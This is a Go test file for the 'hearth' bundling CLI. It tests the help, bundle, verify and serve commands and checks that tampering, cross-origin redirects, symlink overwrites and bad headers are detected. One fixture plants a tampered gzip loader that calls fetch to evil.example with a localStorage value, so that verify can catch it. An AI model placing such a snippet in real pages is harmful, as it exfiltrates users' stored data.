package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"io"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/hearth-personalization/hearth/manifest"
	"github.com/hearth-personalization/hearth/server"
	bundlepkg "github.com/hearth-personalization/hearth/tool/bundle"
)

// fakeBundle stands in for what `make hearth` embeds: a manifest and its files.
func fakeBundle(t *testing.T) fs.FS {
	t.Helper()
	files := map[string]string{"hearth.js": "/* loader */", "hearth.abc123.wasm": "\x00asm"}
	m := manifest.Manifest{Files: map[string]manifest.Asset{}}
	bundle := fstest.MapFS{}
	for name, body := range files {
		sum := sha256.Sum256([]byte(body))
		logical := name
		if strings.HasSuffix(name, ".wasm") {
			logical = manifest.Wasm
		}
		m.Files[logical] = manifest.Asset{File: name, Bytes: len(body), SHA256: hex.EncodeToString(sum[:]), Hashed: logical != manifest.Loader}
		bundle[name] = &fstest.MapFile{Data: []byte(body)}
		gz, _ := bundlepkg.Gzip([]byte(body))
		br, _ := bundlepkg.Brotli([]byte(body))
		bundle[name+".gz"] = &fstest.MapFile{Data: gz}
		bundle[name+".br"] = &fstest.MapFile{Data: br}
	}
	b, _ := json.Marshal(m)
	bundle[manifest.File] = &fstest.MapFile{Data: b}
	old := bundleFS
	bundleFS = func() fs.FS { return bundle }
	t.Cleanup(func() { bundleFS = old })
	return bundle
}

func TestUsageAndHelp(t *testing.T) {
	for _, args := range [][]string{nil, {"-h"}, {"check", "-h"}, {"bundle", "-h"}, {"verify", "-h"}, {"audit", "-h"}, {"serve", "-h"}} {
		var out, errs bytes.Buffer
		if err := run(context.Background(), args, &out, &errs); err != nil {
			t.Errorf("hearth %v = %v", args, err)
		}
		if out.Len()+errs.Len() == 0 {
			t.Errorf("hearth %v printed nothing", args)
		}
	}
	if err := run(context.Background(), []string{"frobnicate"}, io.Discard, io.Discard); err == nil || !strings.Contains(err.Error(), "unknown command") {
		t.Errorf("an unknown command: %v", err)
	}
}

// A binary built without the bundle says how to get one.
func TestNoBundle(t *testing.T) {
	bundleFS = func() fs.FS { return fstest.MapFS{} }
	t.Cleanup(func() { bundleFS = func() fs.FS { d, _ := fs.Sub(embedded, "embedded/dist"); return d } })
	err := run(context.Background(), []string{"bundle", "-out", t.TempDir()}, io.Discard, io.Discard)
	if err == nil || !strings.Contains(err.Error(), "make hearth") {
		t.Errorf("bundle without a bundle: %v", err)
	}
}

// bundle writes the carried files and the tag to add; verify finds the copy
// and a site serving it identical, and names a tampered file.
func TestBundleAndVerify(t *testing.T) {
	bundle := fakeBundle(t)
	dir := filepath.Join(t.TempDir(), "hearth")
	var out bytes.Buffer
	if err := run(context.Background(), []string{"bundle", "-out", dir}, &out, io.Discard); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `<script src="/hearth/hearth.js" data-config="/hearth.json" async></script>`) {
		t.Errorf("bundle's output lacks the script tag:\n%s", out.String())
	}
	out.Reset()
	if err := run(context.Background(), []string{"verify", "-dist", dir}, &out, io.Discard); err != nil {
		t.Errorf("verify of the written copy: %v\n%s", err, out.String())
	}
	h, err := server.New(bundle, fstest.MapFS{"index.html": {Data: []byte("<!doctype html>")}})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	out.Reset()
	if err := run(context.Background(), []string{"verify", "-url", srv.URL}, &out, io.Discard); err != nil {
		t.Errorf("verify of a site serving the bundle: %v\n%s", err, out.String())
	}
	os.WriteFile(filepath.Join(dir, "hearth.js"), []byte("/* changed */"), 0o644)
	out.Reset()
	err = run(context.Background(), []string{"verify", "-dist", dir}, &out, io.Discard)
	if err == nil || !strings.Contains(out.String(), "DIFF hearth.js (hearth.js)") {
		t.Errorf("verify of a tampered copy = %v:\n%s", err, out.String())
	}
	if err := run(context.Background(), []string{"verify"}, io.Discard, io.Discard); err == nil {
		t.Error("verify without -dist or -url succeeded")
	}
}

// serve serves the site folder and the carried bundle until stopped.
func TestServe(t *testing.T) {
	fakeBundle(t)
	site := t.TempDir()
	os.WriteFile(filepath.Join(site, "index.html"), []byte("<!doctype html>shop"), 0o644)
	ctx, cancel := context.WithCancel(context.Background())
	pr, pw := io.Pipe()
	done := make(chan error, 1)
	go func() { done <- run(ctx, []string{"serve", "-addr", "127.0.0.1:0", "-site", site}, io.Discard, pw) }()
	line, err := bufio.NewReader(pr).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	go io.Copy(io.Discard, pr)
	base := strings.TrimSuffix(strings.TrimSpace(strings.TrimPrefix(line, "hearth serve: serving on ")), "/")
	for path, want := range map[string]string{"/": "<!doctype html>shop", "/hearth/hearth.js": "/* loader */"} {
		resp, err := http.Get(base + path)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 || string(b) != want {
			t.Errorf("GET %s = %d %q, want %q", path, resp.StatusCode, b, want)
		}
	}
	cancel()
	if err := <-done; err != nil {
		t.Errorf("serve after stop: %v", err)
	}
}

// verify -url compares every representation a browser can get: a tampered
// gzip twin of the loader (which carries no SRI of its own) is what
// browsers receive, and verify names it (#24.3); a redirect to another
// origin is refused, as browsers refuse the worker from there (#24.9).
func TestVerifyEveryCodingAndOrigin(t *testing.T) {
	bundle := fakeBundle(t).(fstest.MapFS)
	good, _ := server.New(bundle, nil)
	tampered := fstest.MapFS{}
	for k, v := range bundle {
		tampered[k] = v
	}
	bad, _ := bundlepkg.Gzip([]byte("/* loader */ fetch('//evil.example/?' + localStorage['hearth:v1'])"))
	tampered["hearth.js.gz"] = &fstest.MapFile{Data: bad}
	h, err := server.New(tampered, nil)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(h)
	defer srv.Close()
	var out bytes.Buffer
	err = run(context.Background(), []string{"verify", "-url", srv.URL}, &out, io.Discard)
	if err == nil || !strings.Contains(out.String(), "DIFF hearth.js (hearth.js, as gzip)") {
		t.Errorf("verify -url of a site whose gzip loader is tampered = %v:\n%s", err, out.String())
	}
	other := httptest.NewServer(good)
	defer other.Close()
	redirect := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, other.URL+r.URL.Path, http.StatusFound)
	}))
	defer redirect.Close()
	out.Reset()
	err = run(context.Background(), []string{"verify", "-url", redirect.URL}, &out, io.Discard)
	if err == nil || !strings.Contains(out.String(), "another origin") {
		t.Errorf("verify -url of a site that redirects the bundle to another origin = %v:\n%s", err, out.String())
	}
}

// bundle -out replaces a symlink in the directory instead of writing
// through it (#24.8).
func TestBundleDoesNotFollowSymlinks(t *testing.T) {
	fakeBundle(t)
	dir := t.TempDir()
	outside := filepath.Join(t.TempDir(), "precious.txt")
	os.WriteFile(outside, []byte("the owner's file"), 0o644)
	if err := os.Symlink(outside, filepath.Join(dir, "hearth.js")); err != nil {
		t.Fatal(err)
	}
	if err := run(context.Background(), []string{"bundle", "-out", dir}, io.Discard, io.Discard); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(outside); string(b) != "the owner's file" {
		t.Errorf("bundle wrote through a symlink: the file outside the directory now holds %q", b)
	}
	if fi, err := os.Lstat(filepath.Join(dir, "hearth.js")); err != nil || !fi.Mode().IsRegular() {
		t.Errorf("hearth.js in the directory is not a regular file after bundle: %v %v", fi, err)
	}
}

// A static host that serves the module with another type, or the hashed
// files uncached: verify -url says what to fix (#23.13).
func TestVerifyStaticHostHeaders(t *testing.T) {
	bundle := fakeBundle(t).(fstest.MapFS)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		name := strings.TrimPrefix(r.URL.Path, "/hearth/")
		f, ok := bundle[name]
		if !ok {
			http.NotFound(w, r)
			return
		}
		// A plain host: no compression, no caching rules, octet-stream for .wasm.
		if strings.HasSuffix(name, ".wasm") {
			w.Header().Set("Content-Type", "application/octet-stream")
		} else {
			w.Header().Set("Content-Type", "text/javascript")
		}
		w.Write(f.Data)
	}))
	defer srv.Close()
	var out bytes.Buffer
	err := run(context.Background(), []string{"verify", "-url", srv.URL}, &out, io.Discard)
	got := out.String()
	if err == nil || !strings.Contains(got, `HEADER hearth.wasm (hearth.abc123.wasm): Content-Type "application/octet-stream"`) {
		t.Errorf("verify -url of a host serving .wasm as octet-stream = %v:\n%s", err, got)
	}
	if !strings.Contains(got, "warning: hearth.wasm (hearth.abc123.wasm): Cache-Control \"\": its name carries its hash") {
		t.Errorf("verify -url does not warn about a hashed file left uncached:\n%s", got)
	}
}
